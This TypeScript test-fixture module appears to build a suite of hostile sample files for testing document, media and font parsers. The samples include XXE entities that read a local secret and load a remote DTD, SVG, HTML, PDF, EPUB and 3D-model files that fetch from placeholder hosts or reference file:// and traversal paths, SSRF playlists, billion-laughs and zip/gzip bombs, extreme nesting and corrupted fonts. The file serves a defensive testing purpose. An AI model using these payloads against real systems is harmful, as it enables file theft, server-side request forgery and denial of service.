/** Files that are made to harm whoever opens them: to fetch, to read what is none of theirs, to run, to grow without an end. */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { findProgram } from '../../tools/ffmpeg.ts';
import { tarFile } from './archive-files.ts';
import { textured3mf, texturedFbx, texturedGltf, texturedPly } from './textured-models.ts';
import { smallBombs } from './trap-bombs.ts';
import { zipFile } from './zip-file.ts';

/** Nobody's address, by RFC 5737, and nobody's name, by RFC 2606. */
const NOWHERE = ['http://203.0.113.7:8/', 'http://vitrine.example/'] as const;
const MANY = 100_000;

/**
 * @param secret a file that none of them may have opened
 * @param folder for what other programs write on the way
 */
export function traps(secret: string, folder: string): ReadonlyMap<string, Buffer> {
  const all = { ...remote(secret), ...playlists(secret), ...nests(), ...bombs(), ...smallBombs(), ...fonts(), ...films(folder) };
  return new Map(Object.entries(all).map(([name, bytes]) => [name, Buffer.from(bytes)]));
}

type Files = Record<string, Buffer | string>;

function remote(secret: string): Files {
  const [at, named] = NOWHERE;
  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}"><!ENTITY % p SYSTEM "${at}p.dtd"> %p;]>`;
  const html = `<link rel="stylesheet" href="${at}a.css"><script src="${at}a.js"></script><script>fetch("${at}")</script><img src="${named}a.png" onerror="fetch('${at}')"><iframe src="file://${secret}"></iframe><meta http-equiv="refresh" content="0;url=${at}"><p>words</p>`;
  return {
    'linked.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><style>@import url(${at}a.css); @font-face { font-family: x; src: url(${at}a.woff) }</style><script>fetch("${at}")</script><image width="9" height="9" href="${at}a.png"/><image width="9" height="9" xlink:href="file://${secret}"/><use href="${named}a.svg#x"/><rect width="50" height="50" fill="teal" onload="fetch('${at}')"/></svg>`,
    'entity.svg': `${entity}<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><rect width="9" height="9"/><text y="9">&e;</text></svg>`,
    'entity.xml': `${entity}<x>words &e;</x>`,
    'entity.fdx': `${entity}<FinalDraft><Content><Paragraph Type="Action"><Text>words &e;</Text></Paragraph></Content></FinalDraft>`,
    'linked.html': `<!doctype html>${html}`,
    'linked.md': `# words\n\n![one](${at}a.png) ![two](file://${secret})\n\n${html}`,
    'linked.eml': `From: a@example.org\r\nSubject: words\r\nContent-Type: text/html\r\n\r\n${html}`,
    'linked.docx': zipFile({
      '[Content_Types].xml': '<Types/>',
      'word/document.xml': `${entity}<w:document><w:body><w:p><w:r><w:t>words</w:t></w:r></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${at}t.dotm" TargetMode="External"/></Relationships>`,
    }),
    'linked.epub': zipFile({
      mimetype: 'application/epub+zip',
      'META-INF/container.xml': '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>',
      'b.opf': `<package><metadata><dc:title>words</dc:title></metadata><manifest><item id="c" properties="cover-image" href="${at}c.jpg"/><item id="o" href="../../../..${secret}"/><item id="one" href="one.xhtml"/></manifest><spine><itemref idref="one"/><itemref idref="o"/></spine></package>`,
      'one.xhtml': `<html><body>${html}</body></html>`,
    }),
    'linked.gltf': JSON.stringify({
      asset: { version: '2.0' },
      buffers: [
        { byteLength: 36, uri: `${at}a.bin` },
        { byteLength: 36, uri: `file://${secret}` },
      ],
      bufferViews: [{ buffer: 0, byteLength: 36 }],
      accessors: [{ bufferView: 0, componentType: 5126, count: 3, type: 'VEC3' }],
      meshes: [{ primitives: [{ attributes: { POSITION: 0 } }] }],
      nodes: [{ mesh: 0 }],
      scenes: [{ nodes: [0] }],
    }),
    'none.gltf': texturedGltf({ uri: `${at}a.png` }, `file://${secret}`).file,
    'covered.glb': texturedGltf({ uri: `../../..${secret}` }).file,
    'covered.fbx': texturedFbx(`${at}a.png`),
    'covered.ply': texturedPly(secret),
    'covered.3mf': textured3mf(Buffer.from(html), `../../..${secret}`),
    'linked.obj': `mtllib ${secret}\nmtllib ${at}a.mtl\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n`,
    'acting.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${at}"\\))>>/AA<</WC<</S/URI/URI(${at})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj\n4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 64 48]/AA<</O<</S/Launch/F(${secret})>>>>/Resources<</XObject<</X 6 0 R>>>>/Contents 5 0 R>>endobj\n5 0 obj<</Length 30>>stream\n1 0 0 rg 0 0 32 48 re f /X Do   \nendstream endobj\n6 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F(${secret})/Length 1>>stream\nx\nendstream endobj\ntrailer<</Root 1 0 R/Size 9>>\n%%EOF`,
    'link.url': `[InternetShortcut]\r\nURL=${at}\r\nIconFile=${at}a.ico\r\n`,
  };
}

/** Lists of what to open, under the names of films and sounds. */
function playlists(secret: string): Files {
  const [at] = NOWHERE;
  const hls = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${at}a.ts\n#EXTINF:1,\nfile://${secret}\n#EXT-X-ENDLIST\n`;
  const concat = `ffconcat version 1.0\nfile 'file:${secret}'\nfile '${at}a.mp4'\n`;
  const dash = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation id="1" mimeType="video/mp4"><BaseURL>${at}a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`;
  const sdp =
    'v=0\no=- 0 0 IN IP4 203.0.113.7\ns=x\nc=IN IP4 203.0.113.7\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n';
  return Object.fromEntries(
    ['mp4', 'mov', 'mkv', 'avi', 'mp3', 'mxf', 'wav', 'ogg'].map((ext, i) => [
      `list.${ext}`,
      [hls, concat, dash, sdp][i % 4] as string,
    ]),
  );
}

function nests(): Files {
  const nested = (open: string, close: string, times = MANY): string =>
    `${open.repeat(times)}words${close.repeat(times)}`;
  return {
    'deep.json': nested('[', ']'),
    'deep.xml': nested('<a>', '</a>'),
    'deep.html': nested('<div>', '</div>'),
    'deep.md': nested('> ', ''),
    'deep.rtf': `{\\rtf1 ${nested('{', '}')}}`,
    'deep.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${nested('<g>', '</g>')}</svg>`,
    'deep.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages ${nested('[', ']')}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    'deep.docx': zipFile({
      'word/document.xml': `<w:document>${nested('<w:p><w:r><w:t>', '</w:t></w:r></w:p>')}</w:document>`,
    }),
    'deep.eml': `Subject: words\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(20_000)}`,
    'deep.yaml': nested('[', ']'),
  };
}

function bombs(): Files {
  const laughs = `<!DOCTYPE x [<!ENTITY a "haha">${Array.from({ length: 12 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`;
  const zeros = Buffer.alloc(64 * 2 ** 20);
  const packed = (name: string): Buffer => zipFile([{ name, data: zeros }]);
  return {
    'laughs.svg': `${laughs}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&m;</text></svg>`,
    'laughs.xml': `${laughs}<x>&m;</x>`,
    'laughs.fdx': `${laughs}<FinalDraft><Content><Paragraph><Text>&m;</Text></Paragraph></Content></FinalDraft>`,
    'bomb.docx': packed('word/document.xml'),
    'bomb.xlsx': packed('xl/workbook.xml'),
    'bomb.zip': packed('zeros'),
    'bomb.sketch': packed('previews/preview.png'),
    'bomb.gz': gzipSync(zeros),
    'bomb.tar': tarFile({ 'a.txt': 'x' }).fill('7', 124, 135),
    // A picture that says it has 100,000 × 100,000 pixels is in bad-input.test.ts.
    'line.json': `{"words": "${'words '.repeat(1_500_000)}"}`,
  };
}

function fonts(): Files {
  const from = createRequire(import.meta.url).resolve('pdfjs-dist/package.json');
  const font = readFileSync(path.join(path.dirname(from), 'standard_fonts/LiberationSans-Italic.ttf'));
  const changed = (change: (bytes: Buffer, tables: number) => void): Buffer => {
    const out = Buffer.from(font);
    change(out, out.readUInt16BE(4));
    return out;
  };
  const everywhere = (at: number, value: number) =>
    changed((bytes, tables) => {
      for (let i = 0; i < tables; i++) bytes.writeUInt32BE(value, 12 + i * 16 + at);
    });
  const table = (bytes: Buffer, tag: string): number => bytes.readUInt32BE(bytes.indexOf(tag, 12, 'latin1') + 8);
  return {
    'far.ttf': everywhere(8, 0xffff_fff0),
    'long.ttf': everywhere(12, 0xffff_ffff),
    'many.ttf': changed((bytes) => bytes.writeUInt16BE(0xffff, 4)),
    'glyphs.ttf': changed((bytes) => bytes.writeUInt16BE(0xffff, table(bytes, 'maxp') + 4)),
    'outlines.ttf': changed((bytes) => bytes.fill(0xff, table(bytes, 'loca'), table(bytes, 'loca') + 2000)),
    // Each glyph is put together of itself.
    'circle.ttf': changed((bytes) => {
      const start = table(bytes, 'glyf');
      for (let at = start; at < start + 40_000; at += 20)
        bytes.set([255, 255, 0, 0, 0, 0, 3, 232, 3, 232, 0, 32, 0, 36, 0, 0, 0, 0, 0, 0], at);
    }),
  };
}

/** Films of no frame. */
function films(folder: string): Files {
  const ffmpeg = findProgram('ffmpeg');
  if (!ffmpeg) return {};
  return Object.fromEntries(
    ['mp4', 'mkv', 'avi', 'mov'].map((ext) => {
      const file = path.join(folder, `none.${ext}`);
      const codec = ext === 'avi' ? ['-c:v', 'mpeg4'] : ['-c:v', 'libx264', '-preset', 'ultrafast'];
      execFileSync(
        ffmpeg,
        [
          '-v',
          'error',
          '-y',
          '-f',
          'lavfi',
          '-i',
          'testsrc=size=64x48:rate=10:duration=1',
          ...codec,
          '-frames:v',
          '0',
          file,
        ],
        { stdio: 'ignore' },
      );
      return [`none.${ext}`, readFileSync(file)];
    }),
  );
}
